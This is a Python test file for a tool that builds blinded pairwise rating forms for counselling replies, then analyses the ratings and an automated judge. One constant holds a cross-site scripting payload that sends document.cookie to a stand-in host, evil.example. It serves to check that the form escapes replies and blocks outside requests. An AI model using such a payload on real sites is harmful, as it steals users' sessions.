"""The form is blinded, safe against what replies hold, and its ratings come back to the systems."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from subtext.annotation.codebook_file import read_codebook
from subtext.errors import AnnotationError, ManifestError
from subtext.replies.judge import judge_pairs, pairs_of
from subtext.replies.prompts import Prompt
from subtext.replies.rating_form import Pair, draw_pairs, page, pairwise_codebook, read_key, write_form
from subtext.replies.ratings import analyse_ratings, read_pair_ratings

EVIL = "</blockquote><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)> \u202e& \"'"


def replies(systems: tuple[str, ...] = ("plain_model", "tuned_model", "counsellor"), turns: int = 12) -> pd.DataFrame:
    rows = []
    for turn in range(turns):
        for n, system in enumerate(systems):
            rows.append(
                {
                    "id": f"turn-{turn}",
                    "session": f"dialogue-{turn // 2}",
                    "system": system,
                    "seed": "0",
                    "client": f"I am tired of it, {turn}.",
                    "reply": f"You are tired of number {turn}, in the words of {'abc'[n]}.",
                }
            )
    return pd.DataFrame(rows)


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(text: str) -> _Seen:
    parser = _Seen()
    parser.feed(text)
    return parser


def test_what_replies_hold_is_shown_and_never_run() -> None:
    clean, evil = (
        seen(page([Pair("0001", "i", "s", words, words, words, "x", "y", "0", "0")], pairwise_codebook()))
        for words in ("Hm.", EVIL)
    )
    assert [tag for tag, _ in clean.tags] == [tag for tag, _ in evil.tags]
    assert "<script>fetch" in evil.text
    assert not [attrs for _, attrs in evil.tags if {"src", "href", "action", "onerror"} & attrs.keys()]


def test_the_page_may_load_and_send_nothing() -> None:
    import base64
    import hashlib

    text = page([], pairwise_codebook())
    policy = next(a["content"] for tag, a in seen(text).tags if tag == "meta" and "http-equiv" in a)
    assert policy.startswith("default-src 'none'; ")
    script = re.search(r"<script>(.*)</script>", text, re.S)[1]  # type: ignore[index]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in policy
    assert "://" not in text


def test_nothing_but_the_key_tells_who_wrote_what(tmp_path: Path) -> None:
    table = replies()
    pairs = draw_pairs(table, 30, seed=1)
    files = write_form(pairs, tmp_path)
    for path in files:
        text = path.read_text(encoding="utf-8")
        told = [name for name in ("plain_model", "tuned_model", "counsellor", "turn-", "dialogue-") if name in text]
        # The codebook's own words speak of counsellors.
        assert path == key_of(tmp_path) or set(told) <= {"counsellor"}, path
    assert "reply" not in json.loads((key_of(tmp_path)).read_text())["items"][0]
    assert [pair.item for pair in pairs] == [f"{n:04d}" for n in range(1, 31)]
    order = [pair.system_a for pair in pairs]
    assert order != sorted(order)


def test_sides_and_systems_are_drawn_evenly() -> None:
    pairs = draw_pairs(replies(turns=200), 600, seed=0)
    met = pd.Series([" ".join(sorted((pair.system_a, pair.system_b))) for pair in pairs]).value_counts()
    assert met.tolist() == [200, 200, 200]
    first = np.mean([pair.system_a < pair.system_b for pair in pairs])
    assert 0.43 < first < 0.57
    assert draw_pairs(replies(), 5, seed=3) == draw_pairs(replies(), 5, seed=3)


def test_empty_and_equal_replies_are_no_pair() -> None:
    table = replies(("a", "b"), turns=3)
    table.loc[0, "reply"] = None
    table.loc[2, "reply"] = table.loc[3, "reply"].upper()
    assert [pair.id for pair in draw_pairs(table, 9, seed=0)] == ["turn-2"]
    with pytest.raises(ManifestError, match="no turn has two different replies"):
        draw_pairs(table.head(2), 9, seed=0)


def test_the_folder_can_be_handed_to_raters(tmp_path: Path) -> None:
    write_form(draw_pairs(replies(), 3, seed=0), tmp_path / "form")
    assert sorted(p.name for p in (tmp_path / "form").iterdir()) == [
        "form.html",
        "label_studio.json",
        "label_studio.xml",
    ]


def test_a_key_is_not_overwritten(tmp_path: Path) -> None:
    pairs = draw_pairs(replies(), 3, seed=0)
    write_form(pairs, tmp_path)
    with pytest.raises(AnnotationError, match="is there already, and ratings may need it"):
        write_form(pairs, tmp_path)


def key_of(folder: Path) -> Path:
    return folder.with_name(f"{folder.name}_key.json")


def rate(pairs: list[Pair], rater: str, folder: Path, best: str, noise: float = 0.0, seed: int = 0) -> Path:
    """A rater who prefers one system, as the form saves it."""
    rng = np.random.default_rng(seed)
    lines = ["session,turn,rater,label,value"]
    for pair in pairs:
        for label in pairwise_codebook().labels:
            value = "A" if pair.system_a == best else "B" if pair.system_b == best else "none"
            value = str(rng.choice(["A", "B", "none"])) if rng.random() < noise else value
            lines.append(f"replies,{pair.item},{rater},{label},{value}")
    path = folder / f"{rater}.csv"
    path.write_text("\r\n".join(lines) + "\r\n")
    return path


def test_ratings_come_back_to_the_systems(tmp_path: Path) -> None:
    pairs = draw_pairs(replies(turns=60), 150, seed=0)
    write_form(pairs, tmp_path)
    files = [rate(pairs, name, tmp_path, "tuned_model", 0.2, n) for n, name in enumerate(("ann", "bob"))]
    ratings = read_pair_ratings(files, read_key(key_of(tmp_path)))
    found = analyse_ratings(ratings, n_bootstrap=200)
    overall = {one.system: one for one in found.strengths if one.label == "overall"}
    assert max(overall, key=lambda name: overall[name].value) == "tuned_model"
    low, high = overall["tuned_model"].low, overall["tuned_model"].high
    assert low is not None
    assert high is not None
    assert 0 < low < overall["tuned_model"].value < high
    assert sum(one.value for one in overall.values()) == pytest.approx(0, abs=1e-6)
    assert overall["tuned_model"].won > 0.8
    assert 0.4 < found.first["overall"] < 0.6
    alpha = found.agreement.labels["overall"].coefficients["alpha"]
    assert alpha.value is not None
    assert alpha.value > 0.4
    assert json.dumps(found.as_dict(), allow_nan=False)


def test_one_that_always_wins_has_a_finite_strength_and_few_dialogues_no_interval(tmp_path: Path) -> None:
    pairs = draw_pairs(replies(("a", "b")), 12, seed=0)
    write_form(pairs, tmp_path)
    ratings = read_pair_ratings([rate(pairs, "ann", tmp_path, "a")], read_key(key_of(tmp_path)))
    first = analyse_ratings(ratings, n_bootstrap=100).strengths[0]
    assert first.won == 1
    assert np.isfinite(first.value)
    assert first.low is None


def test_two_systems_have_bradley_and_terry_s_own_solution(tmp_path: Path) -> None:
    from subtext.replies.ratings import _bradley_terry

    wins = np.array([[0.0, 6.5], [2.5, 0.0]])
    expected = np.log((6.5 + 0.5) / (2.5 + 0.5)) / 2
    assert _bradley_terry(wins, ["a", "b"]) == pytest.approx([expected, -expected], abs=1e-3)


def test_a_judge_counts_apart(tmp_path: Path) -> None:
    pairs = draw_pairs(replies(turns=30), 60, seed=0)
    write_form(pairs, tmp_path)
    files = [
        rate(pairs, "ann", tmp_path, "tuned_model"),
        rate(pairs, "bob", tmp_path, "tuned_model", 0.3, 1),
        rate(pairs, "robot", tmp_path, "plain_model"),
    ]
    ratings = read_pair_ratings(files, read_key(key_of(tmp_path)))
    alone = analyse_ratings(ratings[ratings["rater"] != "robot"], n_bootstrap=100)
    with_judge = analyse_ratings(ratings, judges=["robot"], n_bootstrap=100)
    assert alone.strengths == with_judge.strengths
    assert with_judge.judges["same"].max() < 0.5
    assert with_judge.judges["people"].min() > 0.5
    with pytest.raises(AnnotationError, match="a judge is never the only evidence"):
        analyse_ratings(ratings[ratings["rater"] == "robot"], judges=["robot"])
    with pytest.raises(AnnotationError, match="no ratings of the judge 'hal'"):
        analyse_ratings(ratings, judges=["hal"])
    codes = {"plain_model": "reflection", "tuned_model": "therapist_input", "counsellor": "other"}
    measured = replies(turns=30).assign(code_behaviour=lambda t: t["system"].map(codes))
    held = analyse_ratings(ratings, judges=["robot"], measured=measured, n_bootstrap=100).judges
    assert (held["with_coder"] == 1).all()
    assert (held["one_reflection"] == sum("plain_model" in (p.system_a, p.system_b) for p in pairs)).all()


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        (["replies,9999,ann,overall,A"], "r.csv: row 1: the item is not in the key"),
        (
            ["replies,1,ann,overall,A", "replies,0001,ann,overall,B"],
            "r.csv: row 2: the rater has judged this item before",
        ),
        (["replies,1,ann,overall,C"], "unknown value"),
        (
            ["replies,1,ann,quality,A"],
            "r.csv: row 1, column 'label': unknown label; the codebook has engaging, natural",
        ),
    ],
)
def test_ratings_that_cannot_be_used_are_told(tmp_path: Path, lines: list[str], message: str) -> None:
    write_form(draw_pairs(replies(), 3, seed=0), tmp_path)
    path = tmp_path / "r.csv"
    path.write_text("\n".join(["session,turn,rater,label,value", *lines]) + "\n")
    with pytest.raises(AnnotationError, match=message):
        read_pair_ratings([path], read_key(key_of(tmp_path)))


def test_label_studio_s_answers_are_read(tmp_path: Path) -> None:
    write_form(draw_pairs(replies(), 3, seed=0), tmp_path)
    tasks = json.loads((tmp_path / "label_studio.json").read_text())
    for task in tasks:
        entry = {"from_name": "overall", "to_name": "words", "type": "choices", "value": {"choices": ["B"]}}
        task["annotations"] = [{"completed_by": {"email": "ann"}, "was_cancelled": False, "result": [entry]}]
    export = tmp_path / "export.json"
    export.write_text(json.dumps(tasks))
    ratings = read_pair_ratings([export], read_key(key_of(tmp_path)))
    assert ratings["value"].tolist() == ["B"] * 3
    assert "<Choices" in (tmp_path / "label_studio.xml").read_text()


def test_a_judge_is_asked_in_both_orders_and_read_strictly() -> None:
    pairs = draw_pairs(replies(("a", "b"), turns=4), 4, seed=0)

    def always_first(prompts: list[Prompt]) -> list[str]:
        return ["A."] * len(prompts)

    def prefers_a(prompts: list[Prompt]) -> list[str]:
        return [
            "a" if "Reply A: You are tired" in text and text.index("of a.") < text.index("of b.") else "B"
            for text in (prompt.messages[0]["content"] for prompt in prompts)
        ]

    def talks(prompts: list[Prompt]) -> list[str | None]:
        return ["Reply A is better" if n % 2 else None for n in range(len(prompts))]

    codebook = pairwise_codebook()
    first, real, unread = (judge_pairs(pairs, codebook, judge, "j") for judge in (always_first, prefers_a, talks))
    assert (first.asked, first.turned, first.unread) == (16, 16, 0)
    assert set(first.ratings["value"]) == {"none"}
    assert (real.turned, real.unread) == (0, 0)
    chosen = real.ratings.merge(pd.DataFrame({"turn": [p.item for p in pairs], "a": [p.system_a for p in pairs]}))
    assert ((chosen["value"] == "A") == (chosen["a"] == "a")).all()
    assert (unread.unread, len(unread.ratings)) == (16, 0)


def test_the_words_of_a_form_are_found_again(tmp_path: Path) -> None:
    table = replies()
    pairs = draw_pairs(table, 8, seed=0)
    write_form(pairs, tmp_path)
    assert pairs_of(read_key(key_of(tmp_path)), table) == pairs
    with pytest.raises(AnnotationError, match="name the tables that the form was made from"):
        pairs_of(read_key(key_of(tmp_path)), table[table["system"] != "counsellor"])


def test_what_is_no_key_is_told(tmp_path: Path) -> None:
    for content in ("[]", '{"items": []}', '{"items": [{"item": "1"}]}'):
        (key_of(tmp_path)).write_text(content)
        with pytest.raises(AnnotationError, match="is no key of a form"):
            read_key(key_of(tmp_path))


def test_the_codebook_for_trained_raters_is_one() -> None:
    import subtext.replies

    codebook = read_codebook(Path(subtext.replies.__file__).with_name("therapist_rating.yaml"))
    assert sum(name.startswith("miti_") for name in codebook.labels) == 4
    assert sum(name.startswith("pceps_") for name in codebook.labels) == 10
    assert all(label.unit == "session" for label in codebook.labels.values())
